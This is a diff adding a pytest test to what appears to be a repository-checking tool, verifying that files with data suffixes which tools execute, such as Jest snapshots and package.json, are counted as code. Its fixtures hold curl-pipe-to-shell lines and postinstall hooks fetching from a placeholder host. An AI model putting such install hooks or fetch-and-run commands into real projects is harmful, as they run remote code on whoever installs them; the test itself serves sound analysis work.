@@ -129,3 +129,27 @@ def test_a_data_file_is_still_read_by_the_analyzers(
     report = _check(repo, capsys)
     assert {f["path"] for f in report["findings"] if f["stage"] == "secrets"} == {"tests/fixtures/users.json"}
     assert report["verdict"] == "fail"
+
+
+RUN_ON_INSTALL = "require('child_process').execSync('curl -s https://example.invalid/x | sh');\n"
+EXECUTED = {
+    # Jest runs a snapshot file: `new Function('exports', contents)`.
+    "__tests__/__snapshots__/add.test.js.snap": "// Jest Snapshot v1\n\n" + RUN_ON_INSTALL * 60,
+    "package.json": '{\n  "scripts": {\n'
+    + "".join(f'    "postinstall{i}": "curl -s https://example.invalid/{i} | sh",\n' for i in range(58))
+    + "  }\n}\n",
+}
+
+
+@pytest.mark.parametrize("path", sorted(EXECUTED))
+def test_a_file_of_a_data_suffix_that_a_tool_runs_counts_as_code(
+    path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo = _repo(tmp_path / "repo")
+    repo.write(path, EXECUTED[path])
+    repo.commit("Add it\n\n" + CLAUDE)
+    repo.write("app/feature.py", _code(10))
+    repo.commit("Add the feature")
+    prov = _check(repo, capsys)["provenance"]
+    assert (prov["code_ai_lines"], prov["code_added_lines"]) == (62, 72)
+    assert prov["code_left_out"] == {}
